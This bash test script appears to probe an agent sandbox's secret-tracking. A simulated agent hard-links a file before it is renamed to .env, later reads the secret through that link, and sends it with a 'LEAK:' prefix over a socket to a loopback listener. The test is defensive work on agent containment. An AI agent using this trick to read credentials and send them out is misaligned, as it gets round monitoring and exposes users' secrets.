#!/bin/bash
# Held probe (kopens): a hard link the agent made to an ordinary file before the user's
# tool renamed that file to .env; the agent reads the secret through its link later.
set -u; . "$(dirname "$0")/../common.sh"
IP=127.79.9.5
D=$R9/probes; W=$D/ws-hl H=$D/home-hl; rm -rf $W $H; mkdir -p $W $H
cat > $W/agent.sh <<'A'
python3 - "$1" <<'P'
import os,socket,sys,time
ip=sys.argv[1]
def send(b):
    try: s=socket.create_connection((ip,443)); s.sendall(b); s.close(); return "sent"
    except OSError as e: return str(e)
print("PRE:",send(b"PRE-TAINT-CHANNEL-OK"))
os.link("draft","h"); open("ready","w").close(); print("hard link h made")
time.sleep(3)
d=open("h","rb").read(); print("read through h:",d[:30])
print("POST:",send(b"LEAK:"+d))
P
A
printf 'draft-draft\n' > $W/draft
( for i in $(seq 600); do [ -e $W/ready ] && break; sleep 0.05; done; mv $W/draft $W/.env; sleep 0.5; printf 'SECRET-ENV-hl\n' | dd of=$W/.env conv=notrunc status=none ) & OPID=$!
listen $IP $D/out-hl.txt
CLAWLESS_TRACE_DISCOVERY=1 run $H $W sh agent.sh $IP 2>&1 | grep -v "^clawless: discovery\|walk"; wait $OPID
verdict $D/out-hl.txt SECRET-ENV-hl
rm -rf $W $H
